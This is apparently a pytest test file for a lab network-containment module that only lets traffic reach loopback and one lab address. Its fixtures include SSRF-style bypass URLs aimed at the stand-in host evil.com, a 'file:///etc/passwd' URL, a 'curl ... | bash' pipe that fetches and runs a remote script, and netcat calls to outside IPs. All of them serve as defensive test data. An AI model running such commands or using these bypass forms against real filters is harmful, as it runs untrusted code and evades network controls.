import contextlib
import ipaddress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provarmor.lab.containment import (
    Containment,
    ContainmentError,
    parse_address,
    parse_loose_ipv4,
)

LAB = Containment(
    lab_addresses=frozenset({ipaddress.ip_address("10.213.0.7")}), aliases={"c2.lab": "10.213.0.7"}
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2130706433", "127.0.0.1"),
        ("0x7f000001", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("134744072", "8.8.8.8"),
        ("10.213.7", "10.213.0.7"),
    ],
)
def test_loose_ipv4_forms_are_read_as_inet_aton_reads_them(text, expected):
    assert str(parse_loose_ipv4(text)) == expected


@pytest.mark.parametrize("text", ["4294967296", "1.2.3.4.5", "256.1.1.1", "example.com", "", "0x"])
def test_non_addresses_and_out_of_range_are_not_ipv4(text):
    assert text == "0x" or parse_loose_ipv4(text) is None


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "127.5.6.7",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "localhost",
        "LOCALHOST.",
        "::1",
        "[::1]",
        "::ffff:127.0.0.1",
        "10.213.0.7",
        "c2.lab",
        "127.0.0.1.",
    ],
)
def test_loopback_and_lab_hosts_are_allowed(host):
    assert LAB.is_allowed_host(host)


@pytest.mark.parametrize(
    "host",
    [
        "8.8.8.8",
        "134744072",
        "10.213.0.8",
        "10.0.0.1",
        "192.168.1.1",
        "::ffff:8.8.8.8",
        "2001:db8::1",
        "fe80::1%eth0",
        "0",
        "0.0.0.0",
        "example.com",
        "evil.localhost.com",
        "127.0.0.1.nip.io",
        "::",
        "",
    ],
)
def test_everything_else_is_refused(host):
    assert not LAB.is_allowed_host(host)
    with pytest.raises(ContainmentError):
        LAB.resolve(host)


def test_ipv4_mapped_ipv6_is_judged_by_its_ipv4_address():
    assert parse_address("::ffff:127.0.0.1") == ipaddress.IPv4Address("127.0.0.1")


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1@evil.com/",
        "http://evil.com@127.0.0.1/",
        "http://127.0.0.1\\@evil.com/",
        "http://user:pw@127.0.0.1/",
        "http://%31%32%37.0.0.1/",
        "http://127.0.0.1:99999/",
        "http://evil.com/",
        "https://8.8.8.8/x",
        "http://[2001:db8::1]/",
        "http://127.0.0.1 .evil/",
        "http://ｅvil.com/",
        "file:///etc/passwd",
    ],
)
def test_hostile_urls_are_refused_and_rewritten_to_the_fallback(url):
    with pytest.raises(ContainmentError):
        LAB.check_url(url)
    rewritten = LAB.rewrite_url(url)
    assert LAB.check_url(rewritten) == "127.0.0.1"
    assert "@" not in rewritten


@pytest.mark.parametrize(
    "url",
    ["http://127.0.0.1:8080/x?y=1", "http://2130706433/", "https://[::1]:8443/", "http://c2.lab/a"],
)
def test_allowed_urls_pass_unchanged(url):
    LAB.check_url(url)
    assert LAB.rewrite_url(url) == url


def test_rewrite_command_replaces_every_foreign_address_and_keeps_the_rest():
    command = (
        "curl -s https://raw.githubusercontent.com/x/y.sh | bash; nc 1.2.3.4 80; "
        "ping -c1 127.0.0.1; ssh root@[2001:db8::1]; curl http://10.213.0.7:80/ok"
    )
    rewritten = LAB.rewrite_command(command)
    assert LAB.violations(rewritten) == []
    assert "github" not in rewritten and "1.2.3.4" not in rewritten and "2001:db8" not in rewritten
    assert "https://127.0.0.1/x/y.sh" in rewritten
    assert "http://10.213.0.7:80/ok" in rewritten
    assert LAB.violations(command) == [
        "https://raw.githubusercontent.com/x/y.sh",
        "1.2.3.4",
        "2001:db8::1",
    ]


def test_assert_contained_names_the_offender():
    with pytest.raises(ContainmentError, match=r"9\.9\.9\.9"):
        LAB.assert_contained(["echo ok", "nc 9.9.9.9 53"])


@given(st.text(max_size=200))
def test_rewritten_commands_never_contain_a_violation(text):
    assert LAB.violations(LAB.rewrite_command(text)) == []


@given(st.text(max_size=60))
def test_checks_raise_only_containment_errors(text):
    with contextlib.suppress(ContainmentError):
        LAB.check_url(text)
    LAB.is_allowed_host(text)
